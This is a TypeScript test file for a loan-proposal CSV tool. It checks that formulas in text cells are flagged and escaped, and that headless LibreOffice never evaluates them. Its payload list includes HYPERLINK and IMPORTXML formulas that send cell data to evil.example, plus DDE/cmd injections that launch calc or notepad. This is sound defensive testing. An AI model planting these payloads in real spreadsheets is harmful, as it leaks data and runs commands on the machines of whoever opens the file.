/**
 * No formula reaches a spreadsheet (docs/spreadsheets.md; issue 23): a sheet whose text cells
 * hold ten formulas (the issue's three and more of OWASP's list) goes through validate
 * (a warning per cell, with its row and column) and submit, whose results, CSV and xlsx, are
 * opened by LibreOffice headless with formula evaluation on and converted back to CSV: every
 * cell reads as written (the CSV's with its leading '), none evaluated. Two control files,
 * a bare `=1+1` CSV cell and an xlsx formula cell, show that LibreOffice does evaluate here,
 * so the test can fail. One LibreOffice start converts all four files.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { runCli } from './run-cli.js';
import { cliEnv, startCountedSandbox, useScratch } from './submit-harness.js';

// Debian's libreoffice-calc(-nogui); .ci/run installs it, so in CI a missing one fails the run.
const hasSoffice = spawnSync('soffice', ['--version']).status === 0;
const scratch = useScratch();

const HEADER = ['Id da proposta', 'Naturalidade', 'Estado civil', 'E-mail', 'Telefone', 'Tipo de documento', 'Número do documento', 'Órgão expedidor', 'UF do documento', 'Data de emissão', 'Logradouro', 'Número', 'Complemento', 'Bairro', 'Cidade', 'UF', 'CEP', 'Código do banco', 'Agência', 'Conta', 'Tipo de conta'];
/** The text columns the formulas go in, by header. */
const TEXT_COLUMNS = ['Naturalidade', 'Logradouro', 'Complemento', 'Bairro', 'Cidade'] as const;
const FORMULAS: ReadonlyArray<readonly [string, string, string, string, string]> = [
  [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+1',
  ],
  [
    "=cmd|' /C notepad'!'A1'",
    '\t=2+2',
    '\r=3+3',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A3),"//a")',
    '=DDE("cmd";"/C calc";"A1")',
  ],
];

/** A cell of our `;` CSV (RFC 4180 quoting), as a clerk's sheet holds it: unescaped. */
const cell = (text: string): string => (/[";\r\n\t]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

function row(id: string, formulas: readonly string[]): string[] {
  const values: Record<string, string> = {
    'Id da proposta': id, 'Estado civil': 'CASADO', 'E-mail': `${id.toLowerCase()}@example.com`, Telefone: '+5581987654321', 'Tipo de documento': 'RG',
    'Número do documento': '1234567', 'Órgão expedidor': 'SSP', 'UF do documento': 'PE', 'Data de emissão': '2015-03-21', Número: '10', UF: 'PE', CEP: '50050000',
    'Código do banco': '341', Agência: '0123', Conta: '12345-6', 'Tipo de conta': 'CORRENTE',
  };
  TEXT_COLUMNS.forEach((column, i) => (values[column] = formulas[i] as string));
  return HEADER.map((name) => values[name] ?? '');
}

/** LibreOffice's CSV export of a converted file: rows of cells. */
const readCsv = (path: string): string[][] => parse(readFileSync(path, 'utf8'), { delimiter: ';', relax_column_count: true, bom: true }) as string[][];

describe.skipIf(!hasSoffice && !process.env.CI)('formulas in text cells, opened by LibreOffice (built binary, soffice headless)', () => {
  it('validate warns for each (row and column); the results CSV and xlsx hold them as text, none evaluated', async () => {
    const input = join(scratch.dir, 'lote.csv');
    const lines = [HEADER, row('PROP-2001', FORMULAS[0]!), row('PROP-2002', FORMULAS[1]!)].map((cells) => cells.map(cell).join(';'));
    writeFileSync(input, `${lines.join('\r\n')}\r\n`);

    const validated = await runCli(['validate', input, '--json']);
    expect(validated.code, validated.stderr).toBe(0);
    const files = (JSON.parse(validated.stdout) as { files: Array<{ row: number; warnings: Array<{ column: string | null; message: string }> }> }).files;
    const formulaWarnings = files.flatMap((f) => f.warnings.filter((w) => w.message.includes('a spreadsheet would run it as a formula')).map((w) => `${f.row} ${w.column}`));
    expect(formulaWarnings.sort()).toEqual([2, 3].flatMap((r) => TEXT_COLUMNS.map((column) => `${r} ${column}`)).sort());
    // The phone, a plain number, is no formula.
    expect(validated.stdout).not.toContain('"column":"Telefone","message":"starts with');

    const sbx = await startCountedSandbox({ delayMs: 60_000 });
    const env = cliEnv(scratch.home, sbx.sandbox.url, sbx.sandbox.token);
    const resultsCsv = join(scratch.dir, 'resultados-csv.csv');
    const resultsXlsx = join(scratch.dir, 'resultados-xlsx.xlsx');
    const sent = await runCli(['submit', input, '--results', resultsCsv], { env });
    expect(sent.code, sent.stderr).toBe(0);
    // The same rows again, answered from the store: the results as an xlsx.
    const again = await runCli(['submit', input, '--results', resultsXlsx], { env });
    expect(again.code, again.stderr).toBe(0);
    expect(sbx.requests()).toBe(2);
    // As written by econsig: each formula cell with a leading '; the phone as it was.
    const written = readFileSync(resultsCsv, 'utf8');
    expect(written).toContain(`;"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")";`);
    expect(written).toContain(`;'+cmd|' /C calc'!A0;`);
    expect(written).toContain(';+5581987654321;');

    const controlCsv = join(scratch.dir, 'control-csv.csv');
    writeFileSync(controlCsv, 'a;b\r\n=1+1;"=HYPERLINK(""http://x/"",""click"")"\r\n');
    const controlXlsx = join(scratch.dir, 'control-xlsx.xlsx');
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('R').addRows([['a'], [{ formula: '1+1' }]]);
    await workbook.xlsx.writeFile(controlXlsx);

    const out = join(scratch.dir, 'out');
    // Field 13 of the CSV import options: evaluate formulas (on, as a clerk's Calc may be).
    const opened = spawnSync('soffice', [
      `-env:UserInstallation=file://${join(scratch.dir, 'lo-profile')}`, '--headless',
      '--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true',
      '--convert-to', 'csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false',
      '--outdir', out, resultsCsv, resultsXlsx, controlCsv, controlXlsx,
    ], { encoding: 'utf8', timeout: 90_000 });
    expect(opened.status, `${opened.stdout}\n${opened.stderr}`).toBe(0);

    // The controls: LibreOffice evaluates what is a formula to it.
    expect(readCsv(join(out, 'control-csv.csv'))[1]).toEqual(['2', 'click']);
    expect(readCsv(join(out, 'control-xlsx.csv'))[1]).toEqual(['2']);

    for (const [file, quoted] of [['resultados-csv.csv', true], ['resultados-xlsx.csv', false]] as const) {
      const [header, ...rows] = readCsv(join(out, file));
      expect(header!.slice(0, HEADER.length), file).toEqual(HEADER);
      expect(rows, file).toHaveLength(2);
      rows.forEach((cells, r) => {
        TEXT_COLUMNS.forEach((column, i) => {
          // LibreOffice keeps a carriage return in a cell as a line break, and drops the
          // leading white space of an xlsx string cell that does not say xml:space="preserve"
          // (exceljs's streamed t="str" cells; shared strings would keep it at twice the time).
          const shown = cells[HEADER.indexOf(column)]?.replace(/\r\n?/g, '\n');
          const original = (FORMULAS[r]![i] as string).replace(/\r/g, '\n');
          // As written; LibreOffice shows the CSV's leading ' as part of the text.
          expect([file, r + 2, column, shown]).toEqual([file, r + 2, column, quoted ? `'${original}` : original.replace(/^\s+/, '')]);
        });
        expect(cells.at(-4), file).toBe('accepted');
      });
    }
  }, 120_000);
});
